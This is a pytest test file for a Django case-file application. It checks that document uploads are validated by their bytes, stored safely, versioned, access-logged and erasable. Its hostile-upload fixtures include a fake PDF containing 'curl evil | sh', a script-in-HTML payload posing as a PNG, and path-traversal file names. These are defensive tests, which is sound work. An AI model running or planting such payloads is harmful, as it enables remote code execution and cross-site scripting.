"""Documents: uploads checked by their bytes, stored outside the web root, versioned, every
download authorized and access-logged; consent per category; erasure with the trajectory."""

import io

import pytest
from django.core.files.storage import storages
from django.urls import reverse

from tests.support.api import assert_problem
from werkbrug.casefile.models import Document, DocumentVersion, JournalEntry, JournalVersion
from werkbrug.casefile.services import casefile_erase_for_trajectory, document_replace
from werkbrug.clients.models import ConsentEvent
from werkbrug.core.choices import DataCategory
from werkbrug.core.models import AccessLogRecord

from .conftest import DOCX, JPEG, PDF, PNG, upload

pytestmark = pytest.mark.django_db


def _url(name, team, **kwargs):
    return reverse(f"casefile:{name}", kwargs={"trajectory_pk": team.trajectory.pk, **kwargs})


def _last() -> int:
    return AccessLogRecord.objects.order_by("-id").values_list("id", flat=True).first() or 0


def _paper_consent(team):
    return ConsentEvent.objects.filter(client=team.client, kind="grant", organisation=team.ggz,
                                       category=DataCategory.CARE).get()


def test_upload_the_signed_consent_through_the_page(client, team):
    client.force_login(team.jobcoach)
    consent = _paper_consent(team)
    page = client.get(_url("document_upload", team))
    assert page.status_code == 200 and "Geen toestemmingsregistratie" in page.content.decode()
    response = client.post(_url("document_upload", team), {
        "file": upload("toestemming.pdf", PDF, "text/html"), "title": "Getekende toestemming", "kind": "signed_consent",
        "category": "participation", "consent_event": str(consent.pk),
    })
    assert response.status_code == 302, response.content.decode()
    document = Document.objects.get()
    version = document.current
    assert document.consent_event == consent and document.title == "Getekende toestemming"
    # The type comes from the bytes, not from the upload's header (text/html here).
    assert version.content_type == "application/pdf" and version.original_name == "toestemming.pdf"
    # Stored under a random name, in the documents storage (not the web root or MEDIA_ROOT).
    storage = storages["documents"]
    assert storage.exists(version.file.name) and "toestemming" not in version.file.name
    with storage.open(version.file.name) as stored:
        assert stored.read() == PDF
    listing = client.get(_url("documents", team)).content.decode()
    assert "Getekende toestemming" in listing and "Toestemmingsregistratie" in listing


HOSTILE = [
    ("formulier.exe", b"MZ\x90\x00" + b"\0" * 100),                 # wrong extension
    ("formulier.pdf", b"#!/bin/sh\ncurl evil | sh\n"),               # a script renamed to .pdf
    ("foto.png", b"<html><script>alert(1)</script></html>"),        # an HTML file as an image
    ("foto.jpg", PNG),                                              # an image of another type
    ("verslag.docx", b"PK\x03\x04" + b"\0" * 200),                  # a broken zip as .docx
    ("leeg.pdf", b""),                                              # an empty file
    ("\u202e\u200b", PDF),                                          # a name of invisible characters only
]


@pytest.mark.parametrize(("name", "data"), HOSTILE)
def test_hostile_uploads_get_400_on_page_and_api(client, team, name, data):
    client.force_login(team.jobcoach)
    response = client.post(_url("document_upload", team), {
        "file": upload(name, data), "kind": "other", "category": "participation"})
    assert response.status_code == 400
    response = client.post(f"/api/v1/trajectories/{team.trajectory.pk}/documents/", {
        "file": upload(name, data), "kind": "other", "category": "participation"})
    assert_problem(response, 400)
    assert not Document.objects.exists() and not DocumentVersion.objects.exists()


def test_oversized_upload_is_refused(client, team, settings):
    settings.DOCUMENT_MAX_UPLOAD_MB = 1
    client.force_login(team.jobcoach)
    big = PDF + b"\0" * (1024 * 1024)
    response = client.post(_url("document_upload", team), {
        "file": upload("groot.pdf", big), "kind": "other", "category": "participation"})
    assert response.status_code == 400
    assert "Het bestand is te groot (hoogstens 1 MB)." in response.content.decode()
    assert_problem(client.post(f"/api/v1/trajectories/{team.trajectory.pk}/documents/", {
        "file": upload("groot.pdf", big), "kind": "other", "category": "participation"}), 400, "file")
    assert not Document.objects.exists()


def _raw_multipart(filename: str, data: bytes) -> tuple[bytes, str]:
    """A multipart body with the file name exactly as given (the test client would clean it)."""
    boundary = "grens1234567890"
    parts = []
    for field, value in (("kind", "other"), ("category", "participation")):
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"\r\n\r\n{value}\r\n'.encode())
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
                 f"Content-Type: application/pdf\r\n\r\n".encode() + data + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


@pytest.mark.parametrize("filename", ["../", "..", "..\\..\\", "/"])
def test_a_name_that_is_only_a_path_gets_400(client, team, filename):
    client.force_login(team.jobcoach)
    body, content_type = _raw_multipart(filename, PDF)
    response = client.post(_url("document_upload", team), body, content_type=content_type)
    assert response.status_code == 400
    response = client.post(f"/api/v1/trajectories/{team.trajectory.pk}/documents/", body, content_type=content_type)
    assert_problem(response, 400, "file")
    assert not Document.objects.exists()


def test_a_path_in_the_name_never_reaches_the_storage(client, team):
    # Django's upload parser keeps only the base name of what the browser sends; the service
    # refuses a name with a folder for every other caller (`test_uploads.py`).
    client.force_login(team.jobcoach)
    body, content_type = _raw_multipart("../../../etc/formulier.pdf", PDF)
    response = client.post(f"/api/v1/trajectories/{team.trajectory.pk}/documents/", body, content_type=content_type)
    assert response.status_code == 201
    version = DocumentVersion.objects.get()
    assert version.original_name == "formulier.pdf"
    assert ".." not in version.file.name and "etc" not in version.file.name


def test_download_is_an_attachment_and_logged(client, team, document):
    doc = document(data=PNG, name="scan.png")
    client.force_login(team.jobcoach)
    before = _last()
    response = client.get(_url("document_download", team, pk=doc.pk, version_pk=doc.current_id))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PNG
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"].startswith("attachment;") and "scan.png" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    record = AccessLogRecord.objects.get(id__gt=before)
    assert (record.action, record.code, record.granted, record.data_category, record.client_pseudonym) == (
        "document.download", "R", True, DataCategory.PARTICIPATION, team.client.pseudonym)
    assert record.object_type == "casefile.documentversion" and record.object_id == str(doc.current_id)
    # The API's download is logged the same way.
    before = _last()
    response = client.get(f"/api/v1/document-versions/{doc.current_id}/download/")
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment;")
    assert AccessLogRecord.objects.filter(id__gt=before, action="document.download").count() == 1


def test_replacement_keeps_the_old_version(client, team, document):
    doc = document(data=PDF, name="verslag.pdf", kind="report")
    first = doc.current
    client.force_login(team.jobcoach)
    response = client.post(_url("document_replace", team, pk=doc.pk), {
        "file": upload("verslag-v2.docx", DOCX), "note": "Nieuwe versie van het verslag."})
    assert response.status_code == 302
    doc.refresh_from_db()
    assert doc.current.number == 2 and doc.current.original_name == "verslag-v2.docx"
    assert list(doc.versions.order_by("number").values_list("number", flat=True)) == [1, 2]
    # The old file is still there and still downloadable.
    old = client.get(_url("document_download", team, pk=doc.pk, version_pk=first.pk))
    assert b"".join(old.streaming_content) == PDF
    page = client.get(_url("document", team, pk=doc.pk)).content.decode()
    assert "verslag.pdf" in page and "verslag-v2.docx" in page and "Nieuwe versie van het verslag." in page
    # A hostile replacement is refused and adds nothing.
    response = client.post(_url("document_replace", team, pk=doc.pk), {"file": upload("x.pdf", b"<script>")})
    assert response.status_code == 400
    assert doc.versions.count() == 2
    # The API: a third version.
    response = client.post(f"/api/v1/documents/{doc.pk}/versions/", {"file": upload("v3.jpg", JPEG), "note": "Foto"})
    assert response.status_code == 201, response.content
    assert [v["number"] for v in response.json()["versions"]] == [3, 2, 1]


def test_therapist_without_care_consent_cannot_see_the_care_document(client, team, therapist, document):
    care = document(category=DataCategory.CARE, name="behandelverslag.pdf", kind="report")
    work = document(category=DataCategory.WORK_INCOME, name="cv.pdf", kind="cv")
    client.force_login(therapist)
    listing = client.get(_url("documents", team)).content.decode()
    assert "cv.pdf" in listing and "behandelverslag" not in listing
    for url in (_url("document", team, pk=care.pk), _url("document_replace", team, pk=care.pk),
                _url("document_download", team, pk=care.pk, version_pk=care.current_id)):
        assert client.get(url).status_code == 404, url
    assert client.post(_url("document_replace", team, pk=care.pk), {"file": upload("x.pdf", PDF)}).status_code == 404
    body = client.get(f"/api/v1/trajectories/{team.trajectory.pk}/documents/").json()
    assert [d["id"] for d in body] == [work.pk]
    assert_problem(client.get(f"/api/v1/documents/{care.pk}/"), 404)
    assert_problem(client.get(f"/api/v1/document-versions/{care.current_id}/download/"), 404)
    assert_problem(client.post(f"/api/v1/documents/{care.pk}/versions/", {"file": upload("x.pdf", PDF)}), 404)
    # Uploading a care document is refused (and logged) too.
    before = _last()
    assert_problem(client.post(f"/api/v1/trajectories/{team.trajectory.pk}/documents/", {
        "file": upload("zorg.pdf", PDF), "kind": "report", "category": "care"}), 404)
    assert AccessLogRecord.objects.filter(id__gt=before, granted=False, data_category=DataCategory.CARE).count() == 1
    assert Document.objects.count() == 2
    # Her own category works.
    assert client.get(_url("document_download", team, pk=work.pk, version_pk=work.current_id)).status_code == 200


def test_outsider_and_client_get_404(client, team, document, client_user):
    doc = document()
    for user in (team.outsider, client_user):
        client.force_login(user)
        for url in (_url("documents", team), _url("document_upload", team), _url("document", team, pk=doc.pk),
                    _url("document_download", team, pk=doc.pk, version_pk=doc.current_id)):
            assert client.get(url).status_code == 404, url
        # Check first: the upload is not even read.
        assert client.post(_url("document_upload", team), {"file": upload("x.exe", b"MZ")}).status_code == 404
        assert_problem(client.get(f"/api/v1/document-versions/{doc.current_id}/download/"), 404)
        assert_problem(client.post(f"/api/v1/trajectories/{team.trajectory.pk}/documents/",
                                   {"file": upload("x.exe", b"MZ")}), 404)
    # A version id under another document is not found either.
    client.force_login(team.jobcoach)
    other = document()
    assert client.get(_url("document_download", team, pk=other.pk, version_pk=doc.current_id)).status_code == 404


def test_consent_record_must_be_the_clients_own(client, team, make_client, document):
    from werkbrug.clients.models import ConsentMethod
    from werkbrug.trajectories.services import trajectory_start

    other_client = make_client(team.jobcoach)
    trajectory_start(client=other_client, started_by=team.jobcoach, role="jobcoach", consent_method=ConsentMethod.VERBAL)
    foreign = ConsentEvent.objects.filter(client=other_client).first()
    client.force_login(team.jobcoach)
    assert_problem(client.post(f"/api/v1/trajectories/{team.trajectory.pk}/documents/", {
        "file": upload("x.pdf", PDF), "kind": "signed_consent", "category": "participation",
        "consent_event": foreign.pk}), 400, "consent_event")
    response = client.post(_url("document_upload", team), {
        "file": upload("x.pdf", PDF), "kind": "signed_consent", "category": "participation",
        "consent_event": str(foreign.pk)})
    assert response.status_code == 400
    assert not Document.objects.exists()


def test_erase_for_trajectory_dry_run_and_real_run(team, document, note, django_capture_on_commit_callbacks):
    doc = document(data=PDF)
    document_replace(document=doc, uploaded_by=team.jobcoach, upload=io.BytesIO(PNG), name="scan.png", size=len(PNG))
    document(category=DataCategory.CARE)
    entry = note(text="Gesprek.")
    note(category=DataCategory.CARE, text="Zorg.")
    from werkbrug.casefile.services import journal_entry_correct

    v = entry.current
    journal_entry_correct(entry=entry, author=team.jobcoach, kind=v.kind, occurred_on=v.occurred_on,
                          with_whom=v.with_whom, text="Gesprek, aangevuld.", reason="Aanvulling")
    names = list(DocumentVersion.objects.values_list("file", flat=True))
    storage = storages["documents"]
    expected = {"journal_entries": 2, "journal_versions": 3, "documents": 2, "document_versions": 3, "files": 3}
    assert casefile_erase_for_trajectory(trajectory=team.trajectory, dry_run=True) == expected
    assert JournalEntry.objects.count() == 2 and all(storage.exists(n) for n in names)
    before = _last()
    with django_capture_on_commit_callbacks(execute=True):
        assert casefile_erase_for_trajectory(trajectory=team.trajectory, dry_run=False) == expected
    assert not JournalEntry.objects.exists() and not JournalVersion.objects.exists()
    assert not Document.objects.exists() and not DocumentVersion.objects.exists()
    assert not any(storage.exists(n) for n in names)
    assert sorted(AccessLogRecord.objects.filter(id__gt=before).values_list("data_category", "code")) == [
        (DataCategory.CARE, "D"), (DataCategory.PARTICIPATION, "D")]
    # Nothing left: a second run counts zeros.
    assert set(casefile_erase_for_trajectory(trajectory=team.trajectory, dry_run=False).values()) == {0}


def test_document_list_query_count(client, team, document, django_assert_max_num_queries):
    for _ in range(2):
        document()
    client.force_login(team.jobcoach)
    url = _url("documents", team)
    with django_assert_max_num_queries(20):
        client.get(url)
    for _ in range(8):
        document(category=DataCategory.WORK_INCOME)
    with django_assert_max_num_queries(20):
        client.get(url)
